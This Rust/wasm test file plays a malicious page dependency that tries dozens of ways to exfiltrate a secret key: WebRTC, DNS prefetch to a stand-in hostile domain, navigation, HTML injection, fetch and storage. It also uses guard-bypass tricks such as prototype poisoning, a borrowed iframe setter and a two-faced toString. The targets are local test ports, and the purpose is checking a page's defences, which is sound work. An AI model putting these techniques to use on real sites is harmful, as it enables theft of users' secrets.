//! A program that tries to carry a key out of the page, as a dependency could that was made to do harm.
//!
//! It takes the page's place: the same policy, the same `guard.js` and `boot.js` around it. Unlike the page's program it
//! has `Reflect`, and so all of the browser within reach; what the page's glue can reach is less (xtask/src/pack/reach.rs).
//! `tests/tests/journeys/hostile.rs` opens it with an address that ends in `#attacks,port of http,of TCP,of UDP`, the
//! attacks joined by `+`, and listens on those ports.
#![allow(clippy::disallowed_methods, reason = "it does what the page may not")]

use js_sys::{Array, Function, Object, Reflect};
use std::cell::Cell;
use std::rc::Rc;
use wasm_bindgen::prelude::{Closure, wasm_bindgen};
use wasm_bindgen::{JsCast, JsValue};

/// The key that must not arrive.
const KEY: &str = "MNQW4YLSPEWWWZLZ";

type Tried = Result<JsValue, JsValue>;

/// Where the test listens.
struct Ports<'a> {
    http: &'a str,
    tcp: &'a str,
    udp: &'a str,
}

/// Runs when the page starts, and in its worker.
#[wasm_bindgen(start)]
pub fn start() -> Result<(), JsValue> {
    let global = global();
    if get(&global, "document").is_err() {
        // The worker, made of the page's own script: it says so, see `other_worker`.
        call(&global, "postMessage", &["own script".into()])?;
        return Ok(());
    }
    let hash = get(&global, "location.hash")?.as_string().unwrap_or_default();
    let mut parts = hash.trim_start_matches('#').split(',');
    let mut next = || parts.next().unwrap_or_default();
    let (attacks, ports) = (next(), Ports { http: next(), tcp: next(), udp: next() });
    let mut report = String::new();
    for attack in attacks.split('+') {
        let outcome = match run(attack, &ports) {
            Ok(_) => "ran".to_owned(),
            Err(error) => get(&error, "message").ok().and_then(|text| text.as_string()).unwrap_or_default(),
        };
        report += &format!("{attack}: {outcome}\n");
    }
    let place = call(&get(&global, "document")?, "getElementById", &["app".into()])?;
    // What goes on by itself says it when it ends.
    let end = if attacks == "other_worker" { "" } else { "done" };
    set(&place, "textContent", &format!("{report}{end}").into())?;
    Ok(())
}

fn run(attack: &str, ports: &Ports<'_>) -> Tried {
    let global = global();
    let document = get(&global, "document")?;
    let address = format!("http://127.0.0.1:{}/{attack}?{KEY}", ports.http);
    let refresh = format!("<meta http-equiv=\"refresh\" content=\"0;url={address}\">");
    let element = |name: &str| call(&document, "createElement", &[name.into()]);
    let head = get(&document, "head")?;
    let body = get(&document, "body")?;
    let (to, markup): (JsValue, JsValue) = (address.as_str().into(), refresh.as_str().into());
    match attack {
        // Not governed by the policy.
        "webrtc" => {
            let server = format!(
                "{{\"iceServers\":[{{\"urls\":\"turn:127.0.0.1:{}?transport=udp\",\"username\":\"{KEY}\",\"credential\":\"x\"}}]}}",
                ports.udp
            );
            let settings = call(&get(&global, "JSON")?, "parse", &[server.into()])?;
            let connection = new("RTCPeerConnection", &[settings])?;
            call(&connection, "createDataChannel", &["x".into()])?;
            let offer = call(&connection, "createOffer", &[])?;
            let then = Closure::once_into_js(move |offer: JsValue| {
                let _ = call(&connection, "setLocalDescription", &[offer]);
            });
            call(&offer, "then", &[then])
        }
        "preconnect" => {
            let link = element("link")?;
            set(&link, "rel", &"preconnect".into())?;
            set(&link, "href", &format!("http://127.0.0.1:{}", ports.tcp).into())?;
            call(&head, "appendChild", &[link])
        }
        "dns_prefetch" | "preconnect_name" => {
            let link = element("link")?;
            let kind = if attack == "dns_prefetch" { "dns-prefetch" } else { "preconnect" };
            set(&link, "rel", &kind.into())?;
            set(&link, "href", &format!("http://{KEY}.hostile.test").into())?;
            call(&head, "appendChild", &[link])
        }
        // The page's own icon becomes something else.
        "icon_by_property" => {
            let icon = call(&document, "querySelector", &["link".into()])?;
            set(&icon, "href", &format!("http://127.0.0.1:{}", ports.tcp).into())?;
            set(&icon, "rel", &"preconnect".into())
        }
        "icon_by_list" => {
            let icon = call(&document, "querySelector", &["link".into()])?;
            set(&icon, "href", &format!("http://127.0.0.1:{}", ports.tcp).into())?;
            call(&get(&icon, "relList")?, "replace", &["icon".into(), "preconnect".into()])
        }
        "icon_by_attribute" => {
            let icon = call(&document, "querySelector", &["link".into()])?;
            call(&icon, "setAttribute", &["href".into(), format!("http://127.0.0.1:{}", ports.tcp).into()])?;
            call(&icon, "setAttribute", &["rel".into(), "preconnect".into()])
        }
        "icon_by_node" => {
            let icon = call(&document, "querySelector", &["link".into()])?;
            let attributes = get(&icon, "attributes")?;
            let node = |name: &str| call(&attributes, "getNamedItem", &[name.into()]);
            set(&node("href")?, "nodeValue", &format!("http://127.0.0.1:{}", ports.tcp).into())?;
            set(&node("rel")?, "value", &"preconnect".into())
        }
        "link" => {
            let link = element("a")?;
            set(&link, "href", &to)?;
            call(&body, "appendChild", std::slice::from_ref(&link))?;
            call(&link, "click", &[])
        }
        "link_download" => {
            let link = element("a")?;
            call(&link, "setAttribute", &["href".into(), to])?;
            call(&link, "setAttribute", &["download".into(), "x".into()])?;
            call(&body, "appendChild", std::slice::from_ref(&link))?;
            call(&link, "click", &[])
        }
        "area" => {
            let (map, area) = (element("map")?, element("area")?);
            set(&area, "href", &to)?;
            call(&map, "appendChild", std::slice::from_ref(&area))?;
            call(&body, "appendChild", &[map])?;
            call(&area, "click", &[])
        }
        "svg_link" => {
            let space: JsValue = "http://www.w3.org/2000/svg".into();
            let svg = call(&document, "createElementNS", &[space.clone(), "svg".into()])?;
            let link = call(&document, "createElementNS", &[space, "a".into()])?;
            call(&link, "setAttribute", &["href".into(), to])?;
            call(&svg, "appendChild", std::slice::from_ref(&link))?;
            call(&body, "appendChild", &[svg])?;
            let press = new("MouseEvent", &["click".into(), options("{\"bubbles\":true,\"cancelable\":true}")?])?;
            call(&link, "dispatchEvent", &[press])
        }
        "meta" => {
            let meta = element("meta")?;
            set(&meta, "httpEquiv", &"refresh".into())?;
            set(&meta, "content", &format!("0;url={address}").into())?;
            call(&head, "appendChild", &[meta])
        }
        "frame" => {
            let frame = element("iframe")?;
            set(&frame, "src", &to)?;
            call(&body, "appendChild", &[frame])
        }
        "form" => {
            let form = element("form")?;
            set(&form, "action", &to)?;
            set(&form, "method", &"get".into())?;
            call(&body, "appendChild", std::slice::from_ref(&form))?;
            call(&form, "submit", &[])
        }
        "location" => set(&get(&global, "location")?, "href", &to),
        "location_of_document" => set(&document, "location", &to),
        "assign" => call(&get(&global, "location")?, "assign", &[to]),
        "replace" => call(&get(&global, "location")?, "replace", &[to]),
        "open" => call(&global, "open", &[to]),
        "navigate" => call(&get(&global, "navigation")?, "navigate", &[to]),
        // What makes elements of a text.
        "inner_html" => set(&body, "innerHTML", &markup),
        "outer_html" => set(&call(&document, "getElementById", &["app".into()])?, "outerHTML", &markup),
        "adjacent_html" => call(&body, "insertAdjacentHTML", &["beforeend".into(), markup]),
        "html_unsafe" => call(&body, "setHTMLUnsafe", &[markup]),
        "write" => call(&document, "write", &[markup]),
        "fragment" => {
            let range = call(&document, "createRange", &[])?;
            call(&head, "appendChild", &[call(&range, "createContextualFragment", &[markup])?])
        }
        "parser" => {
            let parsed = call(&new("DOMParser", &[])?, "parseFromString", &[markup, "text/html".into()])?;
            let meta = call(&parsed, "querySelector", &["meta".into()])?;
            call(&head, "appendChild", &[call(&document, "adoptNode", &[meta])?])
        }
        "parsed_document" => {
            let parsed = call(&get(&global, "Document")?, "parseHTMLUnsafe", &[markup])?;
            call(&head, "appendChild", &[call(&parsed, "querySelector", &["meta".into()])?])
        }
        "other_document" => {
            let other = call(&get(&document, "implementation")?, "createHTMLDocument", &[])?;
            set(&get(&other, "head")?, "innerHTML", &markup)?;
            call(&head, "appendChild", &[call(&other, "querySelector", &["meta".into()])?])
        }
        "template" => {
            let template = element("template")?;
            set(&template, "innerHTML", &markup)?;
            call(&head, "appendChild", &[get(&template, "content")?])
        }
        "shadow" => {
            let shadow = call(&body, "attachShadow", &[options("{\"mode\":\"open\"}")?])?;
            set(&shadow, "innerHTML", &markup)
        }
        "command" => {
            set(&document, "designMode", &"on".into())?;
            // Where the command goes: without it that hangs on whether the page has been laid out yet.
            call(&call(&document, "getSelection", &[])?, "collapse", &[body, 0.into()])?;
            call(&document, "execCommand", &["insertHTML".into(), false.into(), markup])
        }
        // Ways around a guard.
        "frame_setter" => {
            let (frame, link) = (element("iframe")?, element("a")?);
            call(&body, "appendChild", std::slice::from_ref(&frame))?;
            let prototype = get(&frame, "contentWindow.HTMLAnchorElement.prototype")?;
            let descriptor = Reflect::get_own_property_descriptor(prototype.unchecked_ref::<Object>(), &"href".into())?;
            let setter: Function = get(&descriptor, "set")?.unchecked_into();
            setter.call1(&link, &to)?;
            call(&body, "appendChild", std::slice::from_ref(&link))?;
            call(&link, "click", &[])
        }
        "two_faced" => {
            let meta = call(&document, "createElement", &[two_faced("div", "meta")?])?;
            call(&meta, "setAttribute", &[two_faced("title", "http-equiv")?, "refresh".into()])?;
            call(&meta, "setAttribute", &[two_faced("title", "content")?, format!("0;url={address}").into()])?;
            call(&head, "appendChild", &[meta])
        }
        "without_guard" => {
            Reflect::delete_property(
                get(&global, "Document.prototype")?.unchecked_ref::<Object>(),
                &"createElement".into(),
            )?;
            Reflect::delete_property(
                get(&global, "Element.prototype")?.unchecked_ref::<Object>(),
                &"setAttribute".into(),
            )?;
            run("meta", ports)
        }
        "redefined" => {
            let given = options("{\"writable\":true,\"configurable\":true}")?;
            Reflect::define_property(
                get(&global, "Document.prototype")?.unchecked_ref::<Object>(),
                &"createElement".into(),
                given.unchecked_ref::<Object>(),
            )?;
            run("meta", ports)
        }
        "poisoned" => {
            // What a guard may use when it looks at a name; put back, as the browser's driver uses it too.
            let words = get(&global, "String.prototype")?;
            let own = (get(&words, "toLowerCase")?, get(&words, "startsWith")?);
            let div = Closure::<dyn Fn() -> String>::new(|| "div".to_owned());
            let yes = Closure::<dyn Fn() -> bool>::new(|| true);
            set(&words, "toLowerCase", &div.into_js_value())?;
            set(&words, "startsWith", &yes.into_js_value())?;
            let all = get(&global, "Object.prototype")?;
            let allowed = ["meta", "http-equiv", "content"];
            for name in allowed {
                set(&all, name, &true.into())?;
            }
            let done = (|| {
                let meta = element("META")?;
                call(&meta, "setAttribute", &["http-equiv".into(), "refresh".into()])?;
                call(&meta, "setAttribute", &["content".into(), format!("0;url={address}").into()])?;
                call(&head, "appendChild", &[meta])
            })();
            for name in allowed {
                Reflect::delete_property(all.unchecked_ref::<Object>(), &name.into())?;
            }
            set(&words, "toLowerCase", &own.0)?;
            set(&words, "startsWith", &own.1)?;
            done
        }
        "download" => {
            // The one link there is, while it is clicked.
            let seen = Closure::<dyn Fn(JsValue)>::new(move |event: JsValue| {
                if let Ok(link) = get(&event, "target") {
                    let _ = call(&link, "removeAttribute", &["download".into()]);
                    let _ = set(&link, "href", &to);
                }
            });
            let listener = seen.into_js_value();
            call(&global, "addEventListener", &["click".into(), listener.clone(), true.into()])?;
            let content = Array::of1(&markup);
            let page = new("Blob", &[content.into(), options("{\"type\":\"text/html\"}")?])?;
            let done = call(&get(&global, "tokenDesk")?, "download", &["page.txt".into(), page]);
            call(&global, "removeEventListener", &["click".into(), listener, true.into()])?;
            done
        }
        "other_worker" => {
            // Workers of another script would be without a guard: it makes an address of a page that leads away.
            let script = format!("postMessage(URL.createObjectURL(new Blob([{refresh:?}], {{ type: 'text/html' }})))");
            let words = get(&global, "String.prototype")?;
            let own = get(&words, "replace")?;
            let other = script.clone();
            let always = Closure::<dyn Fn() -> String>::new(move || other.clone());
            set(&words, "replace", &always.into_js_value())?;
            let scripts = call(&document, "querySelectorAll", &["script".into()])?;
            let given = Object::new();
            set(&given, "value", &script.into())?;
            for place in 0..Reflect::get(&scripts, &"length".into())?.as_f64().unwrap_or_default() as u32 {
                let element = Reflect::get_u32(&scripts, place)?;
                Reflect::define_property(element.unchecked_ref::<Object>(), &"textContent".into(), &given)?;
            }
            // The first may have been made ahead.
            let workers = (0..2).map(|_| call(&get(&global, "tokenDesk")?, "spawnWorker", &[])).collect::<Vec<_>>();
            set(&words, "replace", &own)?;
            let waiting = Rc::new(Cell::new(workers.len()));
            for worker in workers {
                let (waiting, document) = (Rc::clone(&waiting), document.clone());
                let heard = Closure::<dyn Fn(JsValue)>::new(move |event: JsValue| {
                    let said = get(&event, "data").ok().and_then(|said| said.as_string()).unwrap_or_default();
                    if said.starts_with("blob:") {
                        let _ =
                            get(&self::global(), "location").and_then(|location| set(&location, "href", &said.into()));
                    } else if said == "own script" {
                        waiting.set(waiting.get() - 1);
                        if waiting.get() == 0 {
                            let place = call(&document, "getElementById", &["app".into()]);
                            let _ = place.and_then(|place| set(&place, "textContent", &"own scripts\ndone".into()));
                        }
                    }
                });
                call(&worker?, "addEventListener", &["message".into(), heard.into_js_value()])?;
            }
            Ok(JsValue::UNDEFINED)
        }
        // What the policy forbids by itself.
        "fetch" => call(&global, "fetch", &[to]),
        "beacon" => call(&get(&global, "navigator")?, "sendBeacon", &[to]),
        "request" => {
            let request = new("XMLHttpRequest", &[])?;
            call(&request, "open", &["GET".into(), to])?;
            call(&request, "send", &[])
        }
        "socket" => new("WebSocket", &[format!("ws://127.0.0.1:{}/{attack}?{KEY}", ports.http).into()]),
        "events" => new("EventSource", &[to]),
        "image" => {
            let image = new("Image", &[])?;
            set(&image, "src", &to)
        }
        "worker" => new("Worker", &[to]),
        // What stays in the browser.
        "local_storage" => call(&get(&global, "localStorage")?, "setItem", &["key".into(), KEY.into()]),
        "session_storage" => call(&get(&global, "sessionStorage")?, "setItem", &["key".into(), KEY.into()]),
        "cookie" => set(&document, "cookie", &format!("key={KEY}; max-age=60").into()),
        "window_name" => set(&global, "name", &KEY.into()),
        "history" => {
            call(&get(&global, "history")?, "pushState", &[JsValue::NULL, "".into(), format!("?{KEY}").into()])
        }
        "database" => call(&get(&global, "indexedDB")?, "open", &[KEY.into()]),
        _ => Err(js_sys::Error::new("no such attack").into()),
    }
}

fn global() -> JsValue {
    js_sys::global().into()
}

/// The value at the end of a path such as `location.hash`; an error where one of its names is missing.
fn get(object: &JsValue, path: &str) -> Tried {
    path.split('.').try_fold(object.clone(), |object, name| {
        let value = Reflect::get(&object, &name.into())?;
        if value.is_undefined() || value.is_null() {
            Err(js_sys::Error::new(&format!("no {name}")).into())
        } else {
            Ok(value)
        }
    })
}

fn set(object: &JsValue, name: &str, value: &JsValue) -> Tried {
    Reflect::set(object, &name.into(), value).map(Into::into)
}

fn call(object: &JsValue, method: &str, given: &[JsValue]) -> Tried {
    let method: Function = get(object, method)?.unchecked_into();
    method.apply(object, &given.iter().collect())
}

fn new(class: &str, given: &[JsValue]) -> Tried {
    let class: Function = get(&global(), class)?.unchecked_into();
    Reflect::construct(&class, &given.iter().collect())
}

fn options(json: &str) -> Tried {
    js_sys::JSON::parse(json)
}

/// An object that is one text the first time and another from then on.
fn two_faced(first: &'static str, then: &'static str) -> Tried {
    let asked = Cell::new(false);
    let face = Closure::<dyn Fn() -> String>::new(
        move || {
            if asked.replace(true) { then.to_owned() } else { first.to_owned() }
        },
    );
    let object = Object::new();
    set(&object, "toString", &face.into_js_value())?;
    Ok(object.into())
}
